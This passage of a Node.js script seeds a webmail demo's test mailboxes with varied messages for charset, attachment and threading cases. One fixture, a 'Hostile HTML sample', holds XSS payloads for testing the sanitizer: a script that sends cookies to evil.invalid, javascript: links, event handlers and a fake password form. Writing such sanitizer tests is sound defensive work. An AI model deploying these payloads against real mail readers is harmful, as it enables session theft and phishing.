#!/usr/bin/env node
// Seeds the demo mailboxes of alice, bob, carol and dave with realistic, deterministic mail, written as
// Maildir files and then indexed by Dovecot. Plain Node 20, no npm packages (runs before npm install).
// Run it through `scripts/mail-stack/mail-stack.sh seed`, which provides the environment.
//
// Idempotent: every folder it seeds is emptied first (doveadm expunge), so seeding twice gives the
// same content once. Folders it does not seed (e.g. Bench from `fill`) are left alone.
// Dates are relative to the start of the current UTC hour (override: MAIL_SEED_NOW=2025-01-31T12:00Z);
// everything else (senders, subjects, bodies, flags, counts) is the same on every run.
import fs from "node:fs";
import path from "node:path";
import {
  buildMessage,
  doveadm,
  encodeIso2022jp,
  encodeSingleByte,
  ensureMailbox,
  filePart,
  listMailboxes,
  messagePart,
  multipart,
  pdf,
  png,
  resetBoundaries,
  rng,
  solidPng,
  stackEnv,
  textPart,
  writeMaildirMessage,
  zip,
} from "./mime.mjs";

const env = stackEnv();
const D = env.domain;
const HOUR = 3600_000;
const DAY = 24 * HOUR;
const NOW = process.env.MAIL_SEED_NOW
  ? Date.parse(process.env.MAIL_SEED_NOW)
  : Math.floor(Date.now() / HOUR) * HOUR;
if (!Number.isFinite(NOW)) throw new Error("MAIL_SEED_NOW is not a date");
const INBOX_FILLER = 285;

const r = rng(20251122);
resetBoundaries();

// --- people ------------------------------------------------------------------------------------

const ALICE = { name: "Alice Example", email: `alice@${D}`, tz: 60 };
const BOB = { name: "Bob Builder", email: `bob@${D}`, tz: 60 };
const CAROL = { name: "Carol Nguyen", email: `carol@${D}`, tz: -300 };
// dave's INBOX is the demo's POP3 source: alice adds it as a POP3 account (README, demo logins).
const DAVE = { name: "Dave Old-Provider", email: `dave@${D}`, tz: 0 };

const P = {
  maria: { name: "Maria Schneider", email: "maria.schneider@schneider-design.example", tz: 60 },
  juergen: { name: "Jürgen Weiß", email: "weiss@kontor.example", tz: 60 },
  zoe: { name: "Zoë Lefèvre", email: "zoe@atelier-lefevre.example", tz: 60 },
  jose: { name: "José Álvarez", email: "jose.alvarez@correo.example", tz: -300 },
  lina: { name: "李娜", email: "li.na@shanghai-trade.example", tz: 480 },
  soren: { name: "Søren Østergaard", email: "soren@nordlys.example", tz: 60 },
  amelia: { name: "O'Neil, Amelia", email: "amelia.oneil@hospital.example", tz: 0 },
  priya: { name: "Priya Raman", email: "priya@devshop.example", tz: 330 },
  tom: { name: "Tom Baker", email: "tom.baker@example.com", tz: 0 },
  kenji: { name: "渡辺 健二", email: "kenji@tokyo-labs.example", tz: 540 },
  oleg: { name: "Олег Петров", email: "oleg@mir.example", tz: 180 },
  fatima: { name: "Fatima El Amrani", email: "fatima@souk.example", tz: 60 },
  noah: { name: "Noah Williams", email: "noah.w@example.org", tz: -480 },
  emma: { name: "Emma Johansson", email: "emma.johansson@example.net", tz: 60 },
  dev: { name: 'Dev "the bot" Ops', email: "devops@example.org", tz: 0 },
};
const S = {
  codehub: { name: "CodeHub", email: "notifications@codehub.example", tz: 0 },
  nimbus: { name: "Nimbus Cloud Billing", email: "billing@nimbus-cloud.example", tz: -480 },
  paperboy: { name: "Paperboy Weekly", email: "newsletter@paperboy.example", tz: 0 },
  calendar: { name: "Calendar", email: "calendar-noreply@calendar.example", tz: 0 },
  rail: { name: "Rail Tickets", email: "tickets@rail.example", tz: 60 },
  bookshop: { name: "The Corner Bookshop", email: "orders@bookshop.example", tz: 0 },
  helpdesk: { name: "IT Helpdesk", email: `helpdesk@${D}`, tz: 60 },
  bank: { name: "Example Bank", email: "no-reply@bank.example", tz: 60 },
};
const colleagues = [P.maria, P.juergen, P.zoe, P.jose, P.priya, P.tom, P.soren, P.emma, P.noah, BOB, CAROL];
const friends = [P.amelia, P.fatima, P.lina, P.kenji, P.oleg, P.soren, P.zoe, P.tom];

const domainOf = (p) => p.email.split("@")[1];
let idCounter = 0;
const messageId = (from, tag = "seed") =>
  `${tag}.${(++idCounter).toString(36)}.${r.hex(10)}@${domainOf(from)}`;
const firstName = (p) => (/,/.test(p.name) ? p.name.split(",")[1].trim() : p.name.split(" ")[0]);

// --- text banks --------------------------------------------------------------------------------

const topics = [
  "the onboarding flow",
  "the Q4 roadmap",
  "the search index",
  "the accessibility audit",
  "the design system",
  "budget planning",
  "the vendor contract",
  "the hiring plan",
  "the team offsite",
  "the mobile layout",
  "customer interviews",
  "release 2.4",
  "the support backlog",
  "the pricing page",
  "the data migration",
];
const days = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday"];
const sentences = [
  "I went through the notes from last week and pulled out the open points.",
  "Most of it looks good to me, but I have a couple of questions about the timeline.",
  "Could you take a look before the end of the week?",
  "We agreed to keep the scope small and ship something usable first.",
  "The numbers are a bit better than we expected, which is nice for a change.",
  "I attached nothing this time, everything is in the shared folder.",
  "Let me know if anything is unclear or if you would rather talk it through on a call.",
  "There is no rush on this one, it can wait until after the release.",
  "Thanks again for jumping in on such short notice.",
  "The customer asked whether we can support shared mailboxes later this year.",
  "I think we should write this down properly so that nobody has to guess next time.",
  "Our last test run took twice as long as usual, so I am looking into the cause.",
  "The venue confirmed the booking and sent over the floor plan.",
  "Please keep the list of changes short, people only read the first three items anyway.",
  "I moved the meeting to the bigger room because more people signed up.",
  "The draft is in good shape; I only fixed a few typos and one broken link.",
  "We still need a decision on the colour of the buttons, believe it or not.",
  "If we split the work into two parts we can start on the first one tomorrow.",
  "The legal team had no objections, so we can go ahead.",
  "I will be out of office on Friday, Bob is covering for me.",
  "Can you forward this to whoever owns the billing integration now?",
  "The screenshots in the ticket show the problem quite clearly.",
  "I would prefer the simpler option unless someone feels strongly about it.",
  "We should celebrate once this is out the door.",
];
const personalSentences = [
  "It was so good to see you last weekend!",
  "The kids are still talking about the boat trip.",
  "I found the recipe you asked about, it is surprisingly simple.",
  "Are you free for dinner some time next week?",
  "We finally finished painting the kitchen.",
  "The weather was terrible but we had a great time anyway.",
  "Let me know when you are back in town.",
  "I am sending the photos in a separate mail because they are quite large.",
  "My sister says hello and wants to know when you visit again.",
  "I started reading the book you recommended and I cannot put it down.",
];
const closings = [
  "Best,",
  "Cheers,",
  "Thanks,",
  "Kind regards,",
  "Talk soon,",
  "All the best,",
  "Best regards,",
];

function paragraphs(pool, n) {
  const out = [];
  for (let i = 0; i < n; i++) {
    const k = r.int(2, 4);
    const ps = [];
    for (let j = 0; j < k; j++) ps.push(r.pick(pool));
    out.push(ps.join(" "));
  }
  return out;
}

function letter(to, from, paras, { closing = r.pick(closings) } = {}) {
  return `Hi ${firstName(to)},\n\n${paras.join("\n\n")}\n\n${closing}\n${firstName(from)}\n`;
}

const escapeHtml = (s) =>
  s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");

function htmlLetter(text, { accent = "#2563eb" } = {}) {
  const body = text
    .trim()
    .split(/\n\n+/)
    .map((p) => `<p style="margin:0 0 12px">${escapeHtml(p).replace(/\n/g, "<br>")}</p>`)
    .join("\n");
  return `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title></title></head>
<body style="font-family:Helvetica,Arial,sans-serif;font-size:14px;color:#1f2937;line-height:1.5">
<div style="border-left:3px solid ${accent};padding-left:12px">
${body}
</div>
</body></html>
`;
}

const alternative = (text, html) =>
  multipart("alternative", [textPart(text), textPart(html, { subtype: "html" })]);

// --- the message list --------------------------------------------------------------------------
// Each entry: { user, folder, flags, date, msg (buildMessage input), known? }

const out = [];
const known = [];
function add(user, folder, flags, m, knownAs) {
  out.push({ user, folder, flags, date: m.date, buffer: buildMessage(m) });
  if (knownAs) known.push({ subject: knownAs, user: user.email, folder, flags });
}

// --- alice: the fixed, known messages (tests find them by subject) -----------------------------

function seedKnown() {
  // Newest in INBOX, unread: multipart/alternative with a styled HTML part (table, links).
  {
    const text = `Hi Alice,

welcome to Letterbox, the webmail that stays fast with a hundred thousand messages and safe with hostile ones.

Here is what you can try first:

  * Folders          – special folders first, then your own, nested
  * Reading          – HTML mail in a sandbox, remote images blocked until you allow them
  * Attachments      – downloaded straight from the server, never held in memory

Documentation: https://letterbox.example/docs
Questions: reply to this message.

The Letterbox team
`;
    const html = `<!DOCTYPE html>
<html><head><meta charset="utf-8">
<style>
  body { font-family: Helvetica, Arial, sans-serif; color: #111827; background: #f3f4f6; margin: 0; }
  .card { max-width: 560px; margin: 24px auto; background: #ffffff; border-radius: 8px; padding: 24px; }
  h1 { font-size: 22px; margin: 0 0 12px; color: #1d4ed8; }
  table.features { border-collapse: collapse; width: 100%; margin: 16px 0; }
  table.features th, table.features td { border: 1px solid #e5e7eb; padding: 8px; text-align: left; }
  table.features th { background: #eff6ff; }
  a.button { display: inline-block; background: #2563eb; color: #ffffff; padding: 10px 16px; border-radius: 6px; text-decoration: none; }
</style></head>
<body>
<div class="card">
  <h1>Welcome to Letterbox</h1>
  <p>Hi Alice,</p>
  <p>welcome to <strong>Letterbox</strong>, the webmail that stays fast with a hundred thousand messages
     and <em>safe</em> with hostile ones.</p>
  <table class="features">
    <tr><th>Feature</th><th>What it does</th></tr>
    <tr><td>Folders</td><td>Special folders first, then your own, nested</td></tr>
    <tr><td>Reading</td><td>HTML mail in a sandbox, remote images blocked until you allow them</td></tr>
    <tr><td>Attachments</td><td>Downloaded straight from the server, never held in memory</td></tr>
  </table>
  <p><a class="button" href="https://letterbox.example/docs">Read the documentation</a></p>
  <p style="color:#6b7280;font-size:12px">Questions? Just reply to this message, or visit
     <a href="https://letterbox.example/support">letterbox.example/support</a>.</p>
  <p>The Letterbox team</p>
</div>
</body></html>
`;
    add(
      ALICE,
      "INBOX",
      "",
      {
        from: { name: "Letterbox Team", email: "team@letterbox.example", tz: 0 },
        to: [ALICE],
        subject: "Welcome to Letterbox",
        date: NOW - 5 * 60_000,
        tz: 0,
        messageId: "welcome@letterbox.example",
        body: alternative(text, html),
      },
      "Welcome to Letterbox",
    );
  }

  // PDF + CSV attachments.
  {
    const csv = Buffer.from(
      "region,q1,q2,q3\nNorth,120500,131200,142900\nSouth,98000,101250,99875\nEast,75400,80100,91230\nWest,143000,150900,162450\nTotal,436900,463450,496455\n",
      "utf8",
    );
    const report = pdf("Quarterly report Q3", [
      "Revenue grew 7.1% over Q2, driven by the West and East regions.",
      "Operating costs stayed flat; headcount +2 (support).",
      "Churn fell to 2.3% after the onboarding changes.",
      "Outlook Q4: steady, with the holiday campaign as the main risk.",
      "Figures in q3-figures.csv (attached).",
    ]);
    const text = letter(ALICE, P.maria, [
      "attached is the Q3 report as a PDF, plus the raw figures as CSV in case you want to build your own charts.",
      "The short version: revenue is up 7%, costs are flat, and churn is the lowest it has been all year.",
    ]);
    add(
      ALICE,
      "INBOX",
      "S",
      {
        from: P.maria,
        to: [ALICE],
        cc: [BOB],
        subject: "Quarterly report",
        date: NOW - 2 * DAY - 3 * HOUR,
        tz: P.maria.tz,
        messageId: "quarterly-report-q3@schneider-design.example",
        body: multipart("mixed", [
          textPart(text),
          filePart(report, { type: "application/pdf", filename: "report-q3.pdf" }),
          filePart(csv, { type: "text/csv", filename: "q3-figures.csv" }),
        ]),
      },
      "Quarterly report",
    );
  }

  // multipart/related newsletter with cid: images (generated PNGs).
  {
    const banner = png(480, 80, (x, y) => [
      30 + Math.floor((x / 480) * 60),
      64 + Math.floor((y / 80) * 40),
      175 + Math.floor((x / 480) * 60),
    ]);
    const dot = (c) => solidPng(48, 48, c);
    const html = `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Paperboy Weekly</title></head>
<body style="margin:0;background:#f9fafb;font-family:Georgia,serif">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table role="presentation" width="480" cellpadding="0" cellspacing="0" style="background:#fff">
  <tr><td><img src="cid:banner@paperboy.example" width="480" height="80" alt="Paperboy Weekly"></td></tr>
  <tr><td style="padding:16px">
    <h1 style="font-size:20px">This week: three small things</h1>
    <p><img src="cid:red@paperboy.example" width="24" height="24" alt="" style="vertical-align:middle"> <b>Red:</b> why small teams ship faster.</p>
    <p><img src="cid:green@paperboy.example" width="24" height="24" alt="" style="vertical-align:middle"> <b>Green:</b> a garden that waters itself.</p>
    <p><img src="cid:blue@paperboy.example" width="24" height="24" alt="" style="vertical-align:middle"> <b>Blue:</b> the colour of the ocean is not what you think.</p>
    <p style="font-size:12px;color:#6b7280"><a href="https://paperboy.example/unsubscribe">Unsubscribe</a></p>
  </td></tr>
</table></td></tr></table>
</body></html>
`;
    const text =
      "This week: three small things\n\nRed: why small teams ship faster.\nGreen: a garden that waters itself.\nBlue: the colour of the ocean is not what you think.\n\nUnsubscribe: https://paperboy.example/unsubscribe\n";
    add(
      ALICE,
      "INBOX",
      "S",
      {
        from: S.paperboy,
        to: [ALICE],
        subject: "Newsletter with inline images",
        date: NOW - 1 * DAY - 7 * HOUR,
        tz: 0,
        messageId: "newsletter-inline@paperboy.example",
        headers: [
          "List-Unsubscribe: <https://paperboy.example/unsubscribe>",
          "List-Id: Paperboy Weekly <weekly.paperboy.example>",
        ],
        body: multipart("alternative", [
          textPart(text),
          multipart(
            "related",
            [
              textPart(html, { subtype: "html" }),
              filePart(banner, {
                type: "image/png",
                filename: "banner.png",
                inline: true,
                cid: "banner@paperboy.example",
              }),
              filePart(dot([220, 38, 38]), {
                type: "image/png",
                filename: "red.png",
                inline: true,
                cid: "red@paperboy.example",
              }),
              filePart(dot([22, 163, 74]), {
                type: "image/png",
                filename: "green.png",
                inline: true,
                cid: "green@paperboy.example",
              }),
              filePart(dot([37, 99, 235]), {
                type: "image/png",
                filename: "blue.png",
                inline: true,
                cid: "blue@paperboy.example",
              }),
            ],
            ' type="text/html";',
          ),
        ]),
      },
      "Newsletter with inline images",
    );
  }

  // Remote images: a tracking pixel and a remote logo.
  {
    const html = `<!DOCTYPE html>
<html><head><meta charset="utf-8"></head>
<body style="font-family:Arial,sans-serif">
<p><img src="https://cdn.shop.invalid/logo.png" alt="Shop logo" width="120" height="40"></p>
<p>Hi Alice, your order has shipped and should arrive on Thursday.</p>
<p style="background-image:url('https://cdn.shop.invalid/bg.png')">Track it here: <a href="https://shop.invalid/track/123">shop.invalid/track/123</a></p>
<img src="http://tracker.invalid/p.gif?u=alice" width="1" height="1" alt="" style="display:none">
</body></html>
`;
    add(
      ALICE,
      "INBOX",
      "S",
      {
        from: { name: "Shop Notifications", email: "orders@shop.invalid", tz: 0 },
        to: [ALICE],
        subject: "Tracking pixel test",
        date: NOW - 1 * DAY - 2 * HOUR,
        tz: 0,
        messageId: "tracking-pixel@shop.invalid",
        body: alternative(
          "Hi Alice, your order has shipped and should arrive on Thursday.\nTrack it: https://shop.invalid/track/123\n",
          html,
        ),
      },
      "Tracking pixel test",
    );
  }

  // Hostile HTML: everything a sanitizer must remove.
  {
    const html = `<!DOCTYPE html>
<html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0; url=https://evil.invalid/">
<base href="https://evil.invalid/">
<script>document.location = "https://evil.invalid/steal?c=" + document.cookie;</script>
<style>
  body { background: url("https://evil.invalid/bg.png"); }
  .x { behavior: url(evil.htc); width: expression(alert(1)); }
  @import url("https://evil.invalid/evil.css");
</style>
<link rel="stylesheet" href="https://evil.invalid/style.css">
</head>
<body onload="alert('onload')">
<h1>Hostile HTML sample</h1>
<p>This message contains scripts, event handlers and other things a mail reader must neutralise.</p>
<img src="x" onerror="alert('onerror')">
<img src="https://evil.invalid/remote.png" alt="remote image">
<a href="javascript:alert('link')">A javascript: link</a>
<a href="JaVaScRiPt&#58;alert(2)">An obfuscated javascript: link</a>
<a href="https://evil.invalid/phish" target="_top">A normal-looking link</a>
<iframe src="https://evil.invalid/frame"></iframe>
<object data="https://evil.invalid/flash.swf"></object>
<embed src="https://evil.invalid/embed.swf">
<form action="https://evil.invalid/collect" method="post">
  <input name="password" type="password" placeholder="Confirm your password">
  <button type="submit">Log in</button>
</form>
<svg onload="alert('svg')"><circle r="10"></circle></svg>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.invalid/overlay.png)">overlay</div>
<p style="color:red">Plain styled text that may stay.</p>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">
<script src="https://evil.invalid/x.js"></script>
</body></html>
`;
    add(
      ALICE,
      "INBOX",
      "S",
      {
        from: { name: "Security Team", email: "security@evil.invalid", tz: 0 },
        to: [ALICE],
        subject: "Hostile HTML sample",
        date: NOW - 3 * DAY - 5 * HOUR,
        tz: 0,
        messageId: "hostile-html@evil.invalid",
        body: textPart(html, { subtype: "html" }),
      },
      "Hostile HTML sample",
    );
  }

  // ISO-8859-1 body (quoted-printable), ISO-8859-1 encoded-word subject.
  {
    const text = `Liebe Alice,

viele Grüße aus Köln! Das Wetter ist schön, der Dom ist größer als gedacht,
und das Kölsch schmeckt überraschend gut. Morgen fahren wir mit der
Straßenbahn nach Deutz und essen Äpfel am Rheinufer.

Bis bald und herzliche Grüße,
Jürgen
`;
    add(
      ALICE,
      "INBOX",
      "S",
      {
        from: P.juergen,
        to: [ALICE],
        rawSubject: `=?ISO-8859-1?Q?Gr=FC=DFe_aus_K=F6ln?=`,
        subject: "Grüße aus Köln",
        date: NOW - 4 * DAY - 9 * HOUR,
        tz: P.juergen.tz,
        messageId: "gruesse-koeln@kontor.example",
        encoding: "Q",
        body: textPart(null, {
          charset: "ISO-8859-1",
          bytes: Buffer.from(text, "latin1"),
          cte: "quoted-printable",
        }),
      },
      "Grüße aus Köln",
    );
  }

  // message/rfc822 forward, with an attachment inside the forwarded message.
  {
    const inner = buildMessage({
      from: P.tom,
      to: [P.maria],
      subject: "Venue contract for the offsite",
      date: NOW - 9 * DAY,
      tz: 0,
      messageId: "venue-contract@example.com",
      received: false,
      body: multipart("mixed", [
        textPart(
          "Hi Maria,\n\nhere is the signed contract for the venue. The deposit is due in two weeks.\n\nTom\n",
        ),
        filePart(
          pdf("Venue contract", [
            "Lakeside Conference Centre",
            "Deposit: 30% within 14 days",
            "Signed: Tom Baker",
          ]),
          {
            type: "application/pdf",
            filename: "venue-contract.pdf",
          },
        ),
      ]),
    });
    add(
      ALICE,
      "INBOX",
      "S",
      {
        from: P.maria,
        to: [ALICE],
        subject: "Forwarded message attached",
        date: NOW - 5 * DAY - 2 * HOUR,
        tz: P.maria.tz,
        messageId: "forwarded-rfc822@schneider-design.example",
        body: multipart("mixed", [
          textPart(
            "Hi Alice,\n\nforwarding Tom's mail with the venue contract, see the attached message.\n\nMaria\n",
          ),
          messagePart(inner, { filename: "Venue contract for the offsite.eml" }),
        ]),
      },
      "Forwarded message attached",
    );
  }

  // Every kind of attachment: image, zip, text, RFC 2231 non-ASCII filename.
  {
    const whiteboard = png(320, 200, (x, y) =>
      Math.abs(y - 100 - Math.round(40 * Math.sin(x / 30))) < 3
        ? [37, 99, 235]
        : x % 40 === 0 || y % 40 === 0
          ? [229, 231, 235]
          : [255, 255, 255],
    );
    const archive = zip([
      {
        name: "agenda.txt",
        data: Buffer.from("09:00 Coffee\n09:30 Roadmap\n12:00 Lunch\n13:30 Workshops\n17:00 Boat trip\n"),
      },
      {
        name: "participants.csv",
        data: Buffer.from("name,team\nAlice,Product\nBob,Engineering\nCarol,Design\n"),
      },
      {
        name: "Ablauf-Übersicht.txt",
        data: Buffer.from("Tag 1: Anreise\nTag 2: Workshops\nTag 3: Abreise\n"),
      },
    ]);
    const costs = pdf("Kostenuebersicht Maerz", ["Hotel: 2.340 EUR", "Bahn: 612 EUR", "Catering: 980 EUR"]);
    add(
      ALICE,
      "INBOX",
      "S",
      {
        from: P.zoe,
        to: [ALICE],
        cc: [BOB, CAROL],
        subject: "Files for the offsite",
        date: NOW - 6 * DAY - 4 * HOUR,
        tz: P.zoe.tz,
        messageId: "offsite-files@atelier-lefevre.example",
        body: multipart("mixed", [
          textPart(
            letter(ALICE, P.zoe, [
              "here are the files for the offsite: a photo of the whiteboard, the agenda as a zip, and the cost overview (the one with the umlaut in its name).",
            ]),
          ),
          filePart(whiteboard, { type: "image/png", filename: "whiteboard.png" }),
          filePart(archive, { type: "application/zip", filename: "offsite-agenda.zip" }),
          filePart(costs, { type: "application/pdf", filename: "Kostenübersicht März.pdf" }),
          filePart(Buffer.from("Remember: bring comfortable shoes for the boat trip.\n"), {
            type: "text/plain",
            filename: "note.txt",
          }),
        ]),
      },
      "Files for the offsite",
    );
  }

  // windows-1252 body (8bit) with curly quotes, dashes and the euro sign.
  {
    const text =
      "Hi Alice,\n\nthe “final” price list is attached below – prices in €, VAT included:\n\n  • Basic … 9 €\n  • Team … 29 €\n  • Enterprise … ask us\n\nIt’s all in Windows-1252, as our old billing system insists.\n\n— Emma\n";
    add(
      ALICE,
      "INBOX",
      "S",
      {
        from: P.emma,
        to: [ALICE],
        subject: "Smart quotes from Windows",
        date: NOW - 7 * DAY - 1 * HOUR,
        tz: P.emma.tz,
        messageId: "smart-quotes@example.net",
        headers: ["X-Mailer: Microsoft Outlook 16.0"],
        body: textPart(null, {
          charset: "windows-1252",
          bytes: encodeSingleByte(text, "windows-1252"),
          cte: "8bit",
        }),
      },
      "Smart quotes from Windows",
    );
  }

  // KOI8-R body and KOI8-R encoded-word subject.
  {
    const subject = "Привет из Москвы";
    const text =
      "Здравствуй, Алиса!\n\nПривет из Москвы. Погода отличная, вчера гуляли по парку Горького.\nПрисылаю фотографии позже.\n\nС уважением,\nОлег\n";
    add(
      ALICE,
      "INBOX",
      "S",
      {
        from: P.oleg,
        to: [ALICE],
        rawSubject: `=?KOI8-R?B?${encodeSingleByte(subject, "koi8-r").toString("base64")}?=`,
        subject,
        date: NOW - 8 * DAY - 6 * HOUR,
        tz: P.oleg.tz,
        messageId: "privet@mir.example",
        body: textPart(null, { charset: "KOI8-R", bytes: encodeSingleByte(text, "koi8-r"), cte: "8bit" }),
      },
      subject,
    );
  }

  // ISO-2022-JP body and subject (the classic Japanese mail encoding).
  {
    const subject = "会議の議事録";
    const text =
      "アリスさん\n\nお疲れ様です。渡辺です。\n本日の会議の議事録を送ります。\n\n1. 新しい機能について\n2. 次回の会議は金曜日です\n\nよろしくお願いします。\n渡辺\n";
    add(
      ALICE,
      "INBOX",
      "S",
      {
        from: P.kenji,
        to: [ALICE],
        rawSubject: `=?ISO-2022-JP?B?${encodeIso2022jp(subject).toString("base64")}?=`,
        subject,
        date: NOW - 10 * DAY - 2 * HOUR,
        tz: P.kenji.tz,
        messageId: "gijiroku@tokyo-labs.example",
        body: textPart(null, { charset: "ISO-2022-JP", bytes: encodeIso2022jp(text), cte: "7bit" }),
      },
      subject,
    );
  }

  // RFC 2047 Q-encoded subject and display name.
  add(
    ALICE,
    "INBOX",
    "",
    {
      from: P.zoe,
      to: [ALICE],
      subject: "Café au lait ☕ on Friday?",
      date: NOW - 20 * HOUR,
      tz: P.zoe.tz,
      messageId: "cafe-friday@atelier-lefevre.example",
      encoding: "Q",
      body: textPart(
        "Hi Alice,\n\nshall we meet at the café on the corner on Friday at 10? I’ll bring the sketches.\n\nZoë\n",
      ),
    },
    "Café au lait ☕ on Friday?",
  );

  // Edge cases: no subject, a very long subject, many recipients, format=flowed.
  add(ALICE, "INBOX", "S", {
    from: P.tom,
    to: [ALICE],
    subject: "",
    date: NOW - 12 * DAY,
    tz: 0,
    messageId: "no-subject@example.com",
    body: textPart("Sent from my phone. Forgot the subject, sorry!\n"),
  });
  add(
    ALICE,
    "INBOX",
    "S",
    {
      from: S.helpdesk,
      to: [ALICE, BOB, CAROL, P.maria, P.juergen, P.zoe, P.jose, P.priya, P.tom, P.emma],
      cc: [P.noah, P.soren],
      subject:
        "Scheduled maintenance of the mail, calendar, file sharing and video conferencing services this weekend from Saturday 22:00 to Sunday 06:00 (all times local)",
      date: NOW - 14 * DAY,
      tz: 60,
      messageId: "maintenance@example.test",
      body: textPart(
        "Hello everyone,\n\nplease save your work before Saturday 22:00. During the maintenance window the services\nwill be unavailable for up to eight hours.\n\nIT Helpdesk\n",
        { format: "flowed" },
      ),
    },
    "Scheduled maintenance of the mail, calendar, file sharing and video conferencing services this weekend from Saturday 22:00 to Sunday 06:00 (all times local)",
  );
}

// --- alice: threads (others in INBOX, her replies in Sent) --------------------------------------

function thread(owner, subject, startAgo, steps) {
  const ids = [];
  let date = NOW - startAgo;
  const inboxEntries = [];
  steps.forEach((step, i) => {
    date += step.after ?? r.int(2, 20) * HOUR;
    const from = step.from;
    const lastOther = [...steps.slice(0, i)].reverse().find((s) => s.from !== owner)?.from ?? BOB;
    const to = step.to ?? (from === owner ? [lastOther] : [owner]);
    const id = messageId(from, "thread");
    const quote =
      i > 0
        ? `\n\nOn ${new Date(date - HOUR).toUTCString()}, ${firstName(steps[i - 1].from)} wrote:\n> ${step.quote ?? "See above."}\n`
        : "";
    const m = {
      from,
      to,
      cc: step.cc,
      subject: i === 0 ? subject : `Re: ${subject}`,
      date: Math.min(date, NOW - 30 * 60_000),
      tz: from.tz,
      messageId: id,
      inReplyTo: ids.length ? ids[ids.length - 1] : undefined,
      references: ids.length ? [...ids] : undefined,
      body: textPart(letter(to[0], from, [step.text]).trimEnd() + quote + "\n"),
    };
    ids.push(id);
    if (from === owner) {
      add(owner, "Sent", "S", m);
      // The message she answered is marked answered.
      if (inboxEntries.length) inboxEntries[inboxEntries.length - 1].flags += "R";
    } else {
      add(owner, "INBOX", i === steps.length - 1 && startAgo < 4 * DAY ? "" : "S", m);
      inboxEntries.push(out[out.length - 1]);
    }
  });
}

function seedThreads() {
  thread(ALICE, "Planning the Letterbox beta", 20 * DAY, [
    {
      from: P.priya,
      text: "I put together a first plan for the beta: two weeks of internal use, then twenty external testers. Thoughts?",
    },
    {
      from: ALICE,
      text: "Looks good. Can we add a short survey at the end of each week?",
      quote: "two weeks of internal use, then twenty external testers",
    },
    { from: P.priya, text: "Good idea, I will draft three questions.", quote: "Can we add a short survey" },
    {
      from: BOB,
      to: [ALICE, P.priya],
      text: "I can handle the invitations for the external testers.",
      quote: "I will draft three questions.",
    },
    {
      from: ALICE,
      to: [P.priya, BOB],
      text: "Perfect, thanks both. Let's start on Monday.",
      quote: "I can handle the invitations",
    },
  ]);
  thread(ALICE, "Apartment viewing on Saturday", 3 * DAY, [
    { from: P.fatima, text: "The agent confirmed Saturday at 11:00. Do you want to come along?" },
    {
      from: ALICE,
      text: "Yes! I will meet you there at quarter to eleven.",
      quote: "Do you want to come along?",
    },
    {
      from: P.fatima,
      text: "Great, see you then. Bring the list of questions we made.",
      quote: "quarter to eleven",
    },
  ]);
  thread(ALICE, "Offsite venue options", 35 * DAY, [
    { from: P.tom, text: "I found three venues: the lakeside centre, the old brewery and the mountain hut." },
    {
      from: P.maria,
      to: [ALICE, P.tom],
      text: "The brewery is closest to the station, which matters for people coming by train.",
      quote: "three venues",
    },
    {
      from: ALICE,
      to: [P.tom, P.maria],
      text: "Let's compare prices before we decide. Tom, can you ask for quotes?",
      quote: "closest to the station",
    },
    {
      from: P.tom,
      text: "Quotes are in: lakeside 4,200, brewery 3,900, hut 2,800 but no projector.",
      quote: "can you ask for quotes?",
    },
  ]);
  thread(ALICE, "Bug: attachments over 20 MB fail", 9 * DAY, [
    { from: P.jose, text: "Uploading a 25 MB attachment fails with a timeout after about thirty seconds." },
    {
      from: P.priya,
      to: [ALICE, P.jose],
      text: "I can reproduce it. The proxy has a 20 MB body limit.",
      quote: "fails with a timeout",
    },
    {
      from: ALICE,
      to: [P.jose, P.priya],
      text: "Can we raise the limit to 50 MB to match the mail server?",
      quote: "20 MB body limit",
    },
    {
      from: P.jose,
      text: "Raised it on staging. Works with 25 and 45 MB files now.",
      quote: "raise the limit to 50 MB",
    },
    {
      from: P.priya,
      text: "Confirmed on staging too. Shall we roll it out?",
      quote: "Works with 25 and 45 MB",
    },
    {
      from: ALICE,
      to: [P.jose, P.priya],
      text: "Yes, go ahead. Thanks for the quick fix!",
      quote: "Shall we roll it out?",
    },
  ]);
}

// --- alice: filler for INBOX -------------------------------------------------------------------

function fillerMessage(i, date) {
  const kind = r.pick([
    "work",
    "work",
    "work",
    "notify",
    "notify",
    "personal",
    "billing",
    "newsletter",
    "calendar",
    "intl",
  ]);
  const mid = (from) => messageId(from);
  switch (kind) {
    case "work": {
      const from = r.pick(colleagues);
      const topic = r.pick(topics);
      const subject = r.pick([
        `Meeting notes: ${topic}`,
        `Quick question about ${topic}`,
        `Feedback on ${topic}`,
        `${topic[0].toUpperCase()}${topic.slice(1)} – next steps`,
        `Can we move our ${r.pick(days)} call?`,
        `Draft for ${topic}`,
        `Reminder: ${topic} due ${r.pick(days)}`,
        `Update on ${topic}`,
      ]);
      const text = letter(ALICE, from, paragraphs(sentences, r.int(1, 4)));
      const body = r.chance(0.4) ? alternative(text, htmlLetter(text)) : textPart(text);
      return {
        from,
        to: [ALICE],
        cc: r.chance(0.2) ? [r.pick(colleagues)] : undefined,
        subject,
        date,
        tz: from.tz,
        messageId: mid(from),
        body,
      };
    }
    case "notify": {
      const n = r.int(100, 999);
      const who = r.pick(["priya", "jose", "bob", "tom", "zoe"]);
      const title = r.pick([
        "Fix folder sorting",
        "Stream attachments",
        "Sanitize style tags",
        "Add keyboard shortcuts",
        "Cache message lists",
        "Handle UIDVALIDITY change",
      ]);
      const subject = r.pick([
        `[letterbox/web] Build failed on main (#${n})`,
        `[letterbox/web] ${who} requested your review on #${n}: ${title}`,
        `[letterbox/web] Issue #${n}: ${title}`,
        `[letterbox/web] Merged #${n}: ${title}`,
      ]);
      const text = `${subject.replace("[letterbox/web] ", "")}\n\nView it on CodeHub: https://codehub.example/letterbox/web/pull/${n}\n\n--\nYou are receiving this because you are subscribed to this repository.\n`;
